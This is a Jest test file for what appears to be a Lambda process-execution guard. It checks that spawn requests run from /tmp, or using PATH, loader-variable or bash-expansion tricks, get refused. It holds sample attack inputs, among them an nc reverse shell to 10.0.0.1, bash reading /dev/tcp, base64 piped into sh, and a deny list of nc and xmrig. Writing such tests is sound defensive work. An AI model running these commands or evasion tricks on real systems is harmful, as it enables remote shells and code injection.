import { ELF, fakeSystem, LAMBDA_FILES } from './fake-system';
import { policy, PRELOAD_OPTION as PRELOAD, refused } from './helpers';
import { evaluate } from '../../../lambda-layer/src/decision';
import type { SpawnRequest } from '../../../lambda-layer/src/types';

const system = fakeSystem(LAMBDA_FILES);
const ENV = { PATH: '/usr/local/bin:/usr/bin:/bin', NODE_OPTIONS: PRELOAD, HOME: '/tmp' };

const DRIFT = policy();
const STRICT = policy({ a: ['sh', 'ls', 'cat', 'grep', 'echo', 'curl', 'node', '/var/task/bin/catdoc', '/var/task/run.sh', 'env', 'timeout'] });

function spawn(file: string, args: string[], over: Partial<SpawnRequest> = {}): SpawnRequest {
  return { kind: 'spawn', api: 'spawn', file, args, cwd: '/var/task', env: ENV, envExplicit: false, ...over };
}
function sh(line: string, over: Partial<SpawnRequest> = {}): SpawnRequest {
  return spawn('/bin/sh', ['/bin/sh', '-c', line], over);
}

describe('drift prevention (no allowlist)', () => {
  it.each([
    ['a system tool found on PATH', spawn('ls', ['ls', '-l'])],
    ['a function binary under /var/task', spawn('/var/task/bin/catdoc', ['catdoc'])],
    ['a shell line of pipelines, lists and substitutions of system tools', sh('ls | grep x && echo "$(cat /etc/hostname)" > /dev/null || true')],
    ['a script from the read-only code directory (the interpreter is trusted too)', spawn('/var/task/run.sh', ['run.sh'])],
    ['a #!/usr/bin/env node script whose env and node are trusted', spawn('/var/task/envnode.js', ['envnode.js'])],
    ['node running a file of the function', spawn('node', ['node', '/var/task/index.js'])],
    ['a for loop, a case statement and a shell function', sh('for f in a b; do case $f in a) ls;; *) echo b;; esac; done; f() { cat x; }; f')],
    ['the PATH idiom export PATH=$PATH:/var/task/bin', sh('export PATH=$PATH:/var/task/bin; catdoc x')],
    ['a here-document whose substitution runs a trusted tool', sh('cat <<EOF\nhost $(ls)\nEOF\n')],
    ['a quoted here-document, whose text is not run', sh("cat <<'EOF'\n$(/tmp/evil)\nEOF\n")],
    ['wrappers around a trusted command', sh('nohup timeout -s KILL 5 env -i FOO=1 ls -l')],
    ['a redirection target that is only known at run time', sh('ls > "$OUT"')],
    ['awk without system() or pipes', spawn('awk', ['awk', '-F:', '{print $1 "|" $2}', '/etc/passwd'])],
    ['perl and php with options that load nothing from a writable place', sh('perl -w -I/var/task /var/task/run.sh; php -d memory_limit=1G /var/task/run.sh')],
    ['a login bash without profiles (--noprofile), and a plain bash -c, with HOME /tmp', sh('bash --login --noprofile -c ls; bash -c ls', { env: { ...ENV, HOME: '/tmp' } })],
    ['a login bash whose HOME is the read-only code directory', spawn('bash', ['bash', '-lc', 'ls'], { env: { ...ENV, HOME: '/var/task' } })],
    ['bash arrays, default expansions and a quoted export of another variable', spawn('bash', ['bash', '-c', 'a=(x y); echo "${a[@]}" ${X:-d}; : ${F:=b}; export "FOO=bar"; ls'])],
  ])('allows %s', (_name, req) => {
    expect(evaluate(DRIFT, req, system)).toEqual({ allow: true });
  });

  it.each([
    ['a binary dropped in /tmp', spawn('/tmp/evil', ['evil']), 'writable-location'],
    ['a binary in /dev/shm', spawn('/dev/shm/x', ['x']), 'writable-location'],
    ['a memfd executed through /proc/self/fd', spawn('/proc/self/fd/3', ['x']), 'writable-location'],
    ['a read-only-location file modified after start', spawn('/var/task/bin/late', ['late']), 'drift'],
    ['a /tmp binary run through a relative path from cwd /tmp', spawn('./evil', ['evil'], { cwd: '/tmp' }), 'writable-location'],
    ['a /tmp binary found through the CHILD\'s PATH', spawn('evil', ['evil'], { env: { ...ENV, PATH: '/tmp:/usr/bin' } }), 'writable-location'],
    ['a /tmp binary inside a pipeline of a shell line', sh('ls | /tmp/evil'), 'writable-location'],
    ['a /tmp binary inside a command substitution', sh('echo "$(/tmp/evil)"'), 'writable-location'],
    ['a /tmp binary inside a subshell after cd /tmp', sh('(cd /tmp && ./evil)'), 'writable-location'],
    ['a /tmp binary behind an assignment prefix PATH=/tmp', sh('PATH=/tmp evil'), 'writable-location'],
    ['a /tmp binary found through a PATH a for loop assigns', sh('for PATH in /tmp; do evil; done'), 'writable-location'],
    ['a login bash whose HOME is /tmp (its profiles)', spawn('bash', ['bash', '-lc', 'ls'], { env: { ...ENV, HOME: '/tmp' } }), 'writable-location'],
    ['a bash started as a login shell by its argv[0] (-bash)', spawn('bash', ['-bash', '-c', 'ls'], { env: { ...ENV, HOME: '/tmp' } }), 'writable-location'],
    ['an interactive bash whose HOME is /tmp (its .bashrc)', spawn('bash', ['bash', '-ic', 'ls'], { env: { ...ENV, HOME: '/tmp' } }), 'writable-location'],
    ['a /tmp binary found through a PATH a select loop assigns', sh('select PATH in /tmp; do evil; break; done'), 'writable-location'],
    ['a /tmp binary found through a PATH array assignment (PATH=(/tmp))', spawn('bash', ['bash', '-c', 'PATH=(/tmp); evil']), 'writable-location'],
    ['a /tmp binary found through a PATH export quoted whole ("PATH=/tmp")', spawn('bash', ['bash', '-c', 'export "PATH=/tmp"; evil']), 'writable-location'],
    ['a /tmp binary found through a PATH array a declaration assigns', spawn('bash', ['bash', '-c', 'declare PATH=(/tmp); evil']), 'writable-location'],
    ['a /tmp binary behind nohup/timeout/env', sh('nohup timeout 5 env /tmp/evil'), 'writable-location'],
    ['a /tmp binary behind env -S', spawn('env', ['env', '-S', 'FOO=1 /tmp/evil -x']), 'writable-location'],
    ['a /tmp binary behind xargs', sh('echo x | xargs /tmp/evil'), 'writable-location'],
    ['a /tmp binary behind find -exec', spawn('find', ['find', '.', '-exec', '/tmp/evil', '{}', ';']), 'writable-location'],
    ['a /tmp binary behind sudo', spawn('sudo', ['sudo', '-u', 'root', '/tmp/evil']), 'writable-location'],
    ['a /tmp binary behind strace', spawn('strace', ['strace', '-f', '-o', '/dev/null', '/tmp/evil']), 'writable-location'],
    ['a /tmp binary run by the dynamic loader', spawn('/lib64/ld-linux-x86-64.so.2', ['ld.so', '/tmp/evil']), 'writable-location'],
    ['a /tmp binary run by the dynamic loader with --library-path first', spawn('/lib64/ld-linux-x86-64.so.2', ['ld.so', '--library-path', '/usr/lib', '/tmp/evil']), 'writable-location'],
    ['a trusted script whose #! interpreter is in /tmp', spawn('/var/task/evil-interp.sh', ['x']), 'writable-location'],
    ['a /tmp script run by a trusted shell', spawn('sh', ['sh', '/tmp/evil.sh']), 'writable-location'],
    ['a /tmp script run by bash -c inside sh -c', sh("bash -c '/tmp/evil'"), 'writable-location'],
    ['sourcing a /tmp file', sh('. /tmp/evil.sh'), 'writable-location'],
    ['node requiring a /tmp module', spawn('node', ['node', '-r', '/tmp/evil.js', '/var/task/index.js']), 'writable-location'],
    ['node running a /tmp script', spawn('node', ['node', '/tmp/evil.js']), 'writable-location'],
    ['perl given /tmp as a library directory (-I)', spawn('perl', ['perl', '-I/tmp', '-MEvil', '/var/task/run.sh']), 'writable-location'],
    ['ruby given /tmp as a library directory (-I)', spawn('ruby', ['ruby', '-I', '/tmp', '-revil', '/var/task/run.sh']), 'writable-location'],
    ['php prepending a /tmp file (-d auto_prepend_file=)', spawn('php', ['php', '-d', 'auto_prepend_file=/tmp/evil.js', '/var/task/run.sh']), 'writable-location'],
    ['php loading a /tmp extension (-dextension=)', spawn('php', ['php', '-dextension=/tmp/evil.so', '/var/task/run.sh']), 'writable-location'],
    ['php reading a php.ini from /tmp (-c)', spawn('php', ['php', '-c', '/tmp/php.ini', '/var/task/run.sh']), 'writable-location'],
    ['python caching bytecode under /tmp (-X pycache_prefix=)', spawn('python3', ['python3', '-X', 'pycache_prefix=/tmp/pyc', '-m', 'json.tool']), 'writable-location'],
    ['ruby finding gems in /tmp (GEM_PATH)', spawn('ruby', ['ruby', '/var/task/run.sh'], { env: { ...ENV, GEM_PATH: '/usr/lib/ruby/gems:/tmp/gems' } }), 'loader-env'],
    ['LD_PRELOAD of a /tmp library', spawn('ls', ['ls'], { env: { ...ENV, LD_PRELOAD: '/tmp/evil.so' } }), 'loader-env'],
    ['LD_LIBRARY_PATH with /tmp, set inside the shell line', sh('LD_LIBRARY_PATH=/tmp ls'), 'loader-env'],
    ['ld.so --preload of a /tmp library', spawn('/lib64/ld-linux-x86-64.so.2', ['ld.so', '--preload', '/tmp/evil.so', '/usr/bin/ls']), 'loader'],
  ])('refuses %s', (_name, req, rule) => {
    const d = refused(evaluate(DRIFT, req, system));
    expect(d.control).toBe('process');
    expect(d.detail?.rule).toBe(rule);
  });

  describe('a working directory with .. after a symlink (the kernel follows the link first)', () => {
    // /var/task/cache -> /tmp/cache: '/var/task/cache/../d' is /tmp/d to the kernel, /var/task/d to a lexical join.
    const linked = fakeSystem({ ...LAMBDA_FILES, '/var/task/cache': { link: '/tmp/cache' }, '/tmp/cache/data': { content: '{}', mode: 0o100644 }, '/tmp/d/evil': { content: ELF } });
    it.each([
      ['the cwd option', spawn('./evil', ['evil'], { cwd: '/var/task/cache/../d' })],
      ['a bare name on a relative PATH entry', spawn('evil', ['evil'], { cwd: '/var/task/cache/../d', env: { ...ENV, PATH: '.:/usr/bin' } })],
      ["bash's cd, which falls back to the physical path", spawn('/bin/bash', ['bash', '-c', 'cd /var/task/cache/../d && ./evil'])],
    ])('refuses a /tmp binary reached through %s', (_name, req) => {
      expect(refused(evaluate(DRIFT, req, linked)).detail).toMatchObject({ rule: 'writable-location', resolved: '/tmp/d/evil' });
    });
  });

  it('names the command of the shell line that was refused', () => {
    const d = refused(evaluate(DRIFT, sh('ls -l; /tmp/evil --flag'), system));
    expect(d.detail).toMatchObject({ command: '/tmp/evil --flag', file: '/tmp/evil', resolved: '/tmp/evil', argv: ['/tmp/evil', '--flag'] });
    expect(d.reason).toBe('/tmp/evil /tmp/evil is in a writable location');
  });

  it('reports drift as a change after start, not as a writable location', () => {
    expect(refused(evaluate(DRIFT, spawn('/var/task/bin/late', ['late']), system)).reason).toMatch(/modified after the process started/);
  });

  it('trusts /tmp paths listed in allowedWritablePaths, drift included', () => {
    const p = policy({ w: ['/tmp/tools'] });
    expect(evaluate(p, spawn('/tmp/tools/jq', ['jq']), system)).toEqual({ allow: true });
    expect(refused(evaluate(p, spawn('/tmp/evil', ['evil']), system)).detail?.rule).toBe('writable-location');
  });

  it('truncates argv in the detail to 10 items of 200 characters', () => {
    const long = 'x'.repeat(500);
    const d = refused(evaluate(DRIFT, spawn('/tmp/evil', ['evil', ...Array(20).fill(long)]), system));
    const argv = d.detail?.argv as string[];
    expect(argv).toHaveLength(10);
    expect(argv[1].length).toBe(201);
  });
});

describe('commands that cannot be known statically', () => {
  it.each([
    ['a command substitution as the command name', sh('$(echo ls)')],
    ['a parameter expansion as the command name', sh('"$CMD" -x')],
    ['backquotes as the command name', sh('`echo ls` -l')],
    ['eval', sh('eval "$x"')],
    ['base64 decoded into a shell', sh('echo aWQ= | base64 -d | sh')],
    ['a shell reading stdin (sh with no script)', spawn('sh', ['sh'])],
    ['sh -s', spawn('sh', ['sh', '-s'])],
    ['bash -i', spawn('bash', ['bash', '-i'])],
    ['bash reading /dev/tcp', sh('bash < /dev/tcp/10.0.0.1/4444')],
    ['sh -c with a command string only known at run time', sh('sh -c "$PAYLOAD"')],
    ['a line that does not parse', sh('echo "unterminated')],
    ['alias defining a command', sh("alias ls='/tmp/evil'; ls")],
    ['hash -p mapping a name to another file', sh('hash -p /tmp/evil ls; ls')],
    ['a PATH only known at run time', sh('PATH=$(cat /tmp/p) ls')],
    ['a PATH a for loop takes from the positional parameters', sh('for PATH; do ls; done')],
    ['a PATH that ${PATH:=...} may assign', sh('unset PATH; : ${PATH:=/tmp}; evil')],
    ['declare of a variable whose name is only known at run time', spawn('bash', ['bash', '-c', 'x=PATH; declare "$x=/tmp"; evil'])],
    ['a PATH a for loop takes from a split variable', sh('for PATH in $DIRS; do ls; done')],
    ['a glob as the command name', sh('/tmp/ev* -x')],
    ['a brace expansion as the command name', sh('{/tmp/evil,} x')],
    ['xargs feeding sh -c its command string', sh('cat list | xargs sh -c')],
    ['a wrapper option this parser does not know', spawn('timeout', ['timeout', '--bogus', '5', 'ls'])],
    ['BASH_ENV with a command substitution', spawn('bash', ['bash', '-c', 'ls'], { env: { ...ENV, BASH_ENV: '$(id)' } })],
    ['an exported bash function', spawn('bash', ['bash', '-c', 'ls'], { env: { ...ENV, 'BASH_FUNC_ls%%': '() { /tmp/evil; }' } })],
    ['a /tmp source through a dynamic name', sh('. "$F"')],
    ['a shell reading its script from /dev/stdin', spawn('bash', ['bash', '/dev/stdin'])],
    ['a shell reading its script from /dev/fd/0', spawn('sh', ['sh', '/dev/fd/0'])],
    ['an interpreter reading its script from /proc/self/fd/0', spawn('python3', ['python3', '/proc/self/fd/0'])],
    ['sourcing /dev/fd/0', spawn('bash', ['bash', '-c', '. /dev/fd/0 < f'])],
    ['a PS4 the line sets to a command substitution (bash expands it when tracing)', spawn('bash', ['bash', '-c', "PS4='$(/tmp/evil)'; set -x; ls"])],
    ["bash's ${x@P}, which runs the command substitutions in a value", spawn('bash', ['bash', '-c', "x='$(/tmp/evil)'; echo \"${x@P}\""])],
    ['mapfile -C with a callback only known at run time', spawn('bash', ['bash', '-c', 'mapfile -C "$CB" -c 1 arr < f'])],
  ])('refuses %s in every mode (always)', (_name, req) => {
    const d = refused(evaluate(policy({ m: 'a' }), req, system));
    expect(d.always).toBe(true);
  });

  it("checks mapfile's -C callback as code (readarray too, options glued or apart)", () => {
    for (const line of ["mapfile -C '/tmp/evil x' -c 1 arr < f", 'readarray -tC/tmp/evil arr < f']) {
      expect(refused(evaluate(DRIFT, spawn('bash', ['bash', '-c', line]), system)).detail?.rule).toBe('writable-location');
    }
    expect(evaluate(DRIFT, spawn('bash', ['bash', '-c', "mapfile -t -C 'echo' -c 10 arr < /etc/hostname"]), system)).toEqual({ allow: true });
    expect(evaluate(DRIFT, spawn('bash', ['bash', '-c', 'mapfile -t arr < /etc/hostname; echo "${arr[@]}"']), system)).toEqual({ allow: true });
  });

  const bash = (line: string): SpawnRequest => spawn('bash', ['bash', '-c', line]);
  it.each([
    ['$(( x )) of a value whose subscript runs a command', "x='a[$(/tmp/evil)]'; echo $(( x ))"],
    ['[[ $x -eq 1 ]] of such a value', "x='a[$(/tmp/evil)]'; [[ $x -eq 1 ]]"],
    ['(( x )) and for (( )) of such a value', "x='a[$(/tmp/evil)]'; (( x )); for (( i = x; i < 1; i++ )); do :; done"],
    ['let of such a value', "x='a[$(/tmp/evil)]'; let y=x"],
    ['such a value reached through another variable', "x=y; y='a[$(/tmp/evil)]'; echo $((x))"],
    ['${!x} of a name whose subscript runs a command', "x='a[$(/tmp/evil)]'; echo ${!x}"],
    ['an indexed subscript, an element assignment and a substring offset of such a value', "x='b[$(/tmp/evil)]'; echo ${a[x]}; a[x]=1; s=abc; echo ${s:x:1}"],
    ['printf -v, test -v and unset of a name whose subscript runs a command', "printf -v 'a[$(/tmp/evil)]' x; test -v 'a[$(/tmp/evil)]'; unset 'a[$(/tmp/evil)]'"],
    ['declare of an array assignment quoted as one word', 'declare -a "a=([0]=\\$(/tmp/evil))"'],
  ])("refuses bash's arithmetic and name re-evaluation in every mode: %s", (_name, line) => {
    const d = refused(evaluate(policy({ m: 'a' }), bash(line), system));
    expect(d).toMatchObject({ always: true, detail: { rule: 'dynamic-command' } });
  });

  it('refuses arithmetic on a value only known at run time in BLOCK mode, and reports it in ALERT (it may hold a subscript)', () => {
    for (const line of ['echo a | { read v; echo $(( v )); }', 'n=$(wc -l < f); echo $((n + 1))', 'echo $(( $1 + 1 ))', 'read i; echo ${a[i]}']) {
      const d = refused(evaluate(DRIFT, bash(line), system));
      expect(d).toMatchObject({ detail: { rule: 'dynamic-command' } });
      expect(d.always).toBeUndefined();
    }
  });

  it('allows arithmetic on values it knows, and the [ command', () => {
    for (const line of ['for i in 1 2 3; do echo $((i * 2)); done', 'for ((i=0; i<3; i++)); do echo $i; done', 'x=5; [[ $x -eq 5 ]] && echo ok',
      'let "y = 2 * 3"', 'a=(1 2 3); echo ${a[1]} $(( a[1] + 1 )) $[ 1 + 2 ] $(( $# + 1 ))', '[ -f x ] && ls; if [ "$HOME" = / ]; then ls; fi',
      'declare -A m=([k]=v); declare -a n=(1 2); local -a x=($(ls)); ls', 'test -v HOME; printf "%d" 42', 'v=HOME; echo ${!v}',
      'a[0]=x; a[1]=y; echo ${a[0]} ${a[@]} ${#a[@]}; for i in 0 1; do echo ${a[i]}; done', 'declare -A m; m[key]=v; read k; echo ${m[$k]}',
      's=hello; echo ${s:1:2} ${s: -1} ${s:-d}']) {
      expect(evaluate(DRIFT, bash(line), system)).toEqual({ allow: true });
    }
  });

  it('refuses nesting deeper than the limit', () => {
    let line = 'ls';
    for (let i = 0; i < 20; i++) line = `sh -c ${JSON.stringify(line).replace(/\$/g, '\\$')}`;
    const d = refused(evaluate(DRIFT, sh(line), system));
    expect(d.always).toBe(true);
  });

  it('resolves ANSI-C quoting statically ($\'\\x2ftmp\\x2fevil\' is /tmp/evil)', () => {
    const d = refused(evaluate(DRIFT, spawn('bash', ['bash', '-c', "$'\\x2ftmp\\x2fevil'"]), system));
    expect(d.detail?.resolved).toBe('/tmp/evil');
    expect(d.always).toBeUndefined();
  });

  it('reports a static refusal without always', () => {
    expect(refused(evaluate(DRIFT, spawn('/tmp/evil', ['evil']), system)).always).toBeUndefined();
  });

  it('prefers a refusal that holds in every mode over an earlier one that does not', () => {
    const d = refused(evaluate(DRIFT, sh('/tmp/evil; eval "$x"'), system));
    expect(d.always).toBe(true);
    expect(d.detail?.rule).toBe('dynamic-command');
  });
});

describe('strict allowlist', () => {
  it.each([
    ['a listed bare name resolved on PATH', spawn('ls', ['ls'])],
    ['a listed absolute path', spawn('/var/task/bin/catdoc', ['catdoc'])],
    ['a listed name reached through a symlink in a trusted directory (/bin/sh -> dash)', spawn('/bin/sh', ['sh', '-c', 'ls | grep x'])],
    ['a listed #! script whose interpreter is listed', spawn('/var/task/run.sh', ['run.sh'])],
    ['shell builtins, which are not executables', sh('cd /; export A=1; echo $A; test -n x && true')],
    ['a wrapper and its command when both are listed', spawn('timeout', ['timeout', '5', 'curl', 'x'])],
  ])('allows %s', (_name, req) => {
    expect(evaluate(STRICT, req, system)).toEqual({ allow: true });
  });

  it.each([
    ['an unlisted executable', spawn('base64', ['base64'])],
    ['an unlisted command inside the shell line', sh('ls; base64 -d x')],
    ['an unlisted command in a command substitution', sh('echo $(base64 x)')],
    ['an unlisted shell nested in the line', sh("bash -c 'ls'")],
    ['an unlisted wrapper around a listed command', spawn('nohup', ['nohup', 'ls'])],
    ['a listed script whose interpreter is not listed', spawn('/var/task/envnode.js', ['x'], { env: { ...ENV } })],
    ['a symlink in /tmp named like a listed command (curl -> bash)', spawn('/tmp/curl', ['curl', '-c', 'id'])],
    ['a busybox applet whose applet name is not listed', spawn('/tmp/ls', ['base64'])],
  ])('refuses %s', (_name, req) => {
    expect(refused(evaluate(STRICT, req, system)).detail?.rule).toBe('allowlist');
  });

  it('matches a sha256 entry by content, even in a writable location', () => {
    const hash = system.sha256('/tmp/evil')!;
    expect(evaluate(policy({ a: [`sha256:${hash}`] }), spawn('/tmp/evil', ['evil']), system)).toEqual({ allow: true });
  });

  it('does not trust a listed name whose file lives in /tmp', () => {
    const d = refused(evaluate(policy({ a: ['evil'] }), spawn('/tmp/evil', ['evil']), system));
    expect(d.detail?.rule).toBe('writable-location');
  });

  it('matches absolute globs against the real path', () => {
    expect(evaluate(policy({ a: ['/var/task/bin/*'] }), spawn('/var/task/bin/catdoc', ['c']), system)).toEqual({ allow: true });
    expect(evaluate(policy({ a: ['/usr/**'] }), spawn('/bin/ls', ['ls']), system)).toEqual({ allow: true });
    expect(refused(evaluate(policy({ a: ['/usr/bin/l?'] }), spawn('cat', ['cat']), system)).detail?.rule).toBe('allowlist');
  });
});

describe('deny list', () => {
  it.each([
    ['nc by name on PATH', spawn('nc', ['nc', '-l', '4444'])],
    ['nc behind its symlink (resolved basename nc.openbsd, given name nc)', spawn('/usr/bin/nc', ['nc'])],
    ['nc inside a shell line', sh('ls; nc -e /bin/sh 10.0.0.1 4444')],
    ['nc behind env and nohup', spawn('env', ['env', 'nohup', 'nc', 'x'])],
    ['a busybox applet named nc through argv0', spawn('/usr/bin/busybox', ['nc', '-l'])],
    ['busybox nc', spawn('busybox', ['busybox', 'nc', '-l'])],
    ['xmrig that does not even exist', sh('xmrig --donate-level 1')],
  ])('refuses %s', (_name, req) => {
    expect(refused(evaluate(DRIFT, req, system)).detail?.rule).toBe('blocked');
  });

  it('refuses a blocked executable even when it is allowlisted', () => {
    expect(refused(evaluate(policy({ a: ['nc'], d: ['nc'] }), spawn('nc', ['nc']), system)).detail?.rule).toBe('blocked');
  });

  it('refuses by sha256 of the content whatever the name', () => {
    const hash = system.sha256('/usr/bin/curl')!;
    const d = refused(evaluate(policy({ d: [`sha256:${hash}`] }), sh('ls; curl x'), system));
    expect(d.reason).toMatch(/deny list \(sha256:/);
  });

  it('refuses by absolute glob of the path', () => {
    expect(refused(evaluate(policy({ d: ['/usr/bin/cu*'] }), spawn('curl', ['curl']), system)).detail?.rule).toBe('blocked');
  });

  it('lets a policy with its own deny list run what the default list blocks', () => {
    expect(evaluate(policy({ d: ['xmrig'] }), spawn('nc', ['nc']), system)).toEqual({ allow: true });
  });
});

describe('files that decide what code runs: node options and loader variables', () => {
  const files = fakeSystem({
    ...LAMBDA_FILES,
    '/tmp/x.blob': { content: 'blob', mode: 0o100644 },
    '/tmp/c.json': { content: '{}', mode: 0o100644 },
    '/tmp/o.cnf': { content: '', mode: 0o100644 },
    '/tmp/r.mjs': { content: '', mode: 0o100644 },
    '/tmp/node.config.json': { content: '{}', mode: 0o100644 },
    '/var/task/x.blob': { content: 'blob', mode: 0o100644 },
    '/var/task/o.cnf': { content: '', mode: 0o100644 },
  });
  const node = (opt: string, over: Partial<SpawnRequest> = {}) => spawn('node', ['node', opt, '/var/task/index.js'], over);
  it.each([
    ['a startup snapshot (--snapshot-blob=, whose main function runs)', node('--snapshot-blob=/tmp/x.blob')],
    ['a config file (--experimental-config-file, which can add --require)', node('--experimental-config-file=/tmp/c.json')],
    ["the working directory's node.config.json (--experimental-default-config-file)", node('--experimental-default-config-file', { cwd: '/tmp' })],
    ['an OpenSSL config (--openssl-config, engines and providers are shared objects)', node('--openssl-config=/tmp/o.cnf')],
    ['a test reporter module (--test-reporter=)', spawn('node', ['node', '--test', '--test-reporter=/tmp/r.mjs', '/var/task/index.js'])],
  ])('refuses node given %s from /tmp', (_name, req) => {
    expect(refused(evaluate(DRIFT, req, files)).detail?.rule).toBe('writable-location');
  });

  it('allows the same options with files of the function', () => {
    expect(evaluate(DRIFT, node('--snapshot-blob=/var/task/x.blob'), files)).toEqual({ allow: true });
    expect(evaluate(DRIFT, node('--openssl-config=/var/task/o.cnf'), files)).toEqual({ allow: true });
  });

  it('refuses a shell whose PS4 holds an expansion that runs code (bash traces with it), and allows a plain PS4', () => {
    for (const ps4 of ['$(id)', '`id`', '${x[$(id)]}', '$[1]']) {
      expect(refused(evaluate(DRIFT, sh('true', { env: { ...ENV, SHELLOPTS: 'xtrace', PS4: ps4 } }), files)).detail?.rule).toBe('loader-env');
    }
    expect(evaluate(DRIFT, sh('true', { env: { ...ENV, SHELLOPTS: 'xtrace', PS4: '+ $LINENO: ' } }), files)).toEqual({ allow: true });
  });

  it('refuses PERL5DB (debugger code run by PERL5OPT=-d) unless allowInlineCode names perl, and -I of a writable place in PERL5OPT/RUBYOPT', () => {
    const perl = spawn('perl', ['perl', '/var/task/run.pl'], { env: { ...ENV, PERL5OPT: '-d', PERL5DB: 'BEGIN { system("id") }' } });
    expect(refused(evaluate(DRIFT, perl, files)).detail?.rule).toBe('inline-code');
    expect(evaluate(policy({ i: ['perl'] }), perl, files)).toEqual({ allow: true });
    expect(refused(evaluate(DRIFT, spawn('perl', ['perl', '/var/task/run.pl'], { env: { ...ENV, PERL5OPT: '-I/tmp/lib -Mevil' } }), files)).reason).toMatch(/^PERL5OPT -I points at/);
    expect(refused(evaluate(DRIFT, spawn('ruby', ['ruby', '/var/task/run.rb'], { env: { ...ENV, RUBYOPT: '-I /tmp/lib -revil' } }), files)).reason).toMatch(/^RUBYOPT -I points at/);
    expect(evaluate(DRIFT, spawn('perl', ['perl', '/var/task/run.pl'], { env: { ...ENV, PERL5OPT: '-I/var/task/lib -Mstrict' } }), files)).toEqual({ allow: true });
  });

  it.each([
    ['OPENSSL_CONF', '/tmp/o.cnf', spawn('curl', ['curl', 'https://example.com'])],
    ['OPENSSL_MODULES', '/tmp/mods', spawn('curl', ['curl', 'https://example.com'])],
    ['OPENSSL_ENGINES', '/tmp/engines', spawn('node', ['node', '/var/task/index.js'])],
    ['PYTHONUSERBASE', '/tmp/u', spawn('python3', ['python3', '/var/task/run.py'])],
    ['PYTHONPYCACHEPREFIX', '/tmp/pyc', spawn('python3', ['python3', '/var/task/run.py'])],
    ['NODE_COMPILE_CACHE', '/tmp/cc', spawn('node', ['node', '/var/task/index.js'])],
    ['NODE_COMPILE_CACHE', '/tmp/cc', sh('node /var/task/index.js')],
  ])('refuses %s pointing at a writable place, unless allowedWritablePaths lists it', (name, value, req) => {
    const r = { ...req, env: { ...ENV, [name]: value } };
    const d = refused(evaluate(DRIFT, r, files));
    expect(d.detail?.rule).toBe('loader-env');
    expect(d.reason).toMatch(new RegExp(`^${name} points at`));
    expect(evaluate(policy({ w: [value] }), r, files)).toEqual({ allow: true });
  });

  it('checks NODE_COMPILE_CACHE only for programs that may start node: not for curl, and not when it is empty or read-only', () => {
    expect(evaluate(DRIFT, { ...spawn('curl', ['curl', 'https://example.com']), env: { ...ENV, NODE_COMPILE_CACHE: '/tmp/cc' } }, files)).toEqual({ allow: true });
    expect(evaluate(DRIFT, { ...spawn('node', ['node', '/var/task/index.js']), env: { ...ENV, NODE_COMPILE_CACHE: '' } }, files)).toEqual({ allow: true });
    expect(evaluate(DRIFT, { ...spawn('node', ['node', '/var/task/index.js']), env: { ...ENV, NODE_COMPILE_CACHE: '/var/task/.cache' } }, files)).toEqual({ allow: true });
  });
});

describe('inline code', () => {
  it.each([
    ['node -e', spawn('node', ['node', '-e', 'require("child_process")'])],
    ['node --eval=', spawn('node', ['node', '--eval=1'])],
    ['node -p', spawn('node', ['node', '-p', '1'])],
    ['node with no script (stdin)', spawn('node', ['node'])],
    ['python -c (through the python3 symlink)', spawn('python3', ['python3', '-c', 'import os'])],
    ['python -Ic (clustered)', spawn('python3', ['python3', '-Ic', 'import os'])],
    ['perl -e', spawn('perl', ['perl', '-e', 'exec "/bin/sh"'])],
    ['perl -lne (clustered)', spawn('perl', ['perl', '-lne', 'print'])],
    ['ruby -e', spawn('ruby', ['ruby', '-e', 'x'])],
    ['php -r', spawn('php', ['php', '-r', 'system("id");'])],
    ['lua -e', spawn('lua5.4', ['lua', '-e', 'os.execute("id")'])],
    ['awk with system()', spawn('awk', ['awk', 'BEGIN{system("id")}'])],
    ['awk piping to a command', spawn('awk', ['awk', '{print | "sh"}'])],
    ['python -c inside a shell line', sh('ls; python3 -c "print(1)"')],
  ])('refuses %s', (_name, req) => {
    expect(refused(evaluate(DRIFT, req, system)).detail?.rule).toBe('inline-code');
  });

  it('allows inline code for an interpreter named in allowInlineCode, version suffixes included', () => {
    const p = policy({ i: ['python', 'node'] });
    expect(evaluate(p, spawn('python3', ['python3', '-c', '1']), system)).toEqual({ allow: true });
    expect(evaluate(p, spawn('node', ['node', '-e', '1']), system)).toEqual({ allow: true });
    expect(refused(evaluate(p, spawn('perl', ['perl', '-e', '1']), system)).detail?.rule).toBe('inline-code');
  });

  it('allows a shell reading stdin only when allowInlineCode names the shell', () => {
    expect(evaluate(policy({ i: ['dash'] }), spawn('sh', ['sh']), system)).toEqual({ allow: true });
    expect(evaluate(policy({ i: ['sh'] }), spawn('sh', ['sh']), system)).toEqual({ allow: true });
  });

  it('does not treat python -m or a script file as inline', () => {
    expect(evaluate(DRIFT, spawn('python3', ['python3', '-m', 'json.tool']), system)).toEqual({ allow: true });
    expect(evaluate(DRIFT, spawn('python3', ['python3', '-u', '/var/task/index.js']), system)).toEqual({ allow: true });
  });
});

describe('argv0 set apart from the file', () => {
  it('checks the deny list against the argv0 that exec -a gives a multi-call binary', () => {
    const d = refused(evaluate(DRIFT, spawn('bash', ['bash', '-c', 'exec -a nc /usr/bin/busybox -l -p 4444']), system));
    expect(d.detail?.rule).toBe('blocked');
  });

  it('checks the deny list against env --argv0', () => {
    expect(refused(evaluate(DRIFT, spawn('env', ['env', '--argv0=nc', '/usr/bin/busybox', '-l']), system)).detail?.rule).toBe('blocked');
  });

  it('runs the file, not argv0, for exec -a', () => {
    expect(evaluate(DRIFT, sh('exec -a innocent /usr/bin/ls'), system)).toEqual({ allow: true });
    expect(refused(evaluate(DRIFT, sh('exec -a ls /tmp/evil'), system)).detail?.resolved).toBe('/tmp/evil');
  });
});

describe('commands that do not exist', () => {
  it('lets a missing executable through, so the call fails natively with ENOENT', () => {
    expect(evaluate(DRIFT, spawn('/nonexistent/tool', ['tool']), system)).toEqual({ allow: true });
    expect(evaluate(STRICT, spawn('no-such-tool', ['no-such-tool']), system)).toEqual({ allow: true });
  });

  it('lets a shell line name a missing command (the shell reports it)', () => {
    expect(evaluate(STRICT, sh('ls; no-such-tool'), system)).toEqual({ allow: true });
  });
});
